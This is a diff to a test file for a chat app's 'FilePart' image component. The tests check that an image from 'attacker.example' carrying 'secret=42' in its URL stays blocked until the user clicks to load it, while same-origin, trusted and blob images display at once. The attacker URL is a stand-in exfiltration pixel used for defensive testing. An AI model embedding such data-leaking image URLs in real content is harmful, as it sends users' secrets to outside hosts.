@@ -56,13 +56,14 @@ describe('FilePart', () => {
     );
     expect(container.querySelector('img')).toBeNull();
     expect(container.innerHTML).not.toContain('attacker.example/pixel');
-    await user.click(screen.getByRole('button', { name: 'Load image from attacker.example' }));
+    // The guard loads with the first image at an address (out of the first load).
+    await user.click(await screen.findByRole('button', { name: 'Load image from attacker.example' }));
     const image = screen.getByRole('img', { name: 'chart.png' });
     expect(image.getAttribute('src')).toBe('https://attacker.example/pixel.png?secret=42');
     expect(image.getAttribute('referrerpolicy')).toBe('no-referrer');
   });
 
-  it("shows at once the page's own images, the app's trusted origins and the user's blob: attachments", () => {
+  it("shows at once the page's own images, the app's trusted origins and the user's blob: attachments", async () => {
     render(
       <ImageOriginsProvider origins={['https://images.example.com']}>
         <FilePart part={{ type: 'file', mediaType: 'image/png', url: '/uploads/own.png', filename: 'own.png' }} />
@@ -70,7 +71,10 @@ describe('FilePart', () => {
         <FilePart part={{ type: 'file', mediaType: 'image/png', url: 'blob:http://localhost:3000/1234', filename: 'pasted.png' }} />
       </ImageOriginsProvider>,
     );
-    expect(screen.getByRole('img', { name: 'own.png' }).getAttribute('src')).toBe('http://localhost:3000/uploads/own.png');
+    expect(screen.getByRole('img', { name: 'pasted.png' }).getAttribute('src')).toBe('blob:http://localhost:3000/1234');
+    // Shown as soon as the guard has loaded: no button is ever offered for them.
+    expect(screen.queryByRole('button')).toBeNull();
+    expect((await screen.findByRole('img', { name: 'own.png' })).getAttribute('src')).toBe('http://localhost:3000/uploads/own.png');
     expect(screen.getByRole('img', { name: 'trusted.jpg' }).getAttribute('src')).toBe('https://images.example.com/a.jpg');
     expect(screen.getByRole('img', { name: 'pasted.png' }).getAttribute('src')).toBe('blob:http://localhost:3000/1234');
     expect(screen.queryByRole('button')).toBeNull();
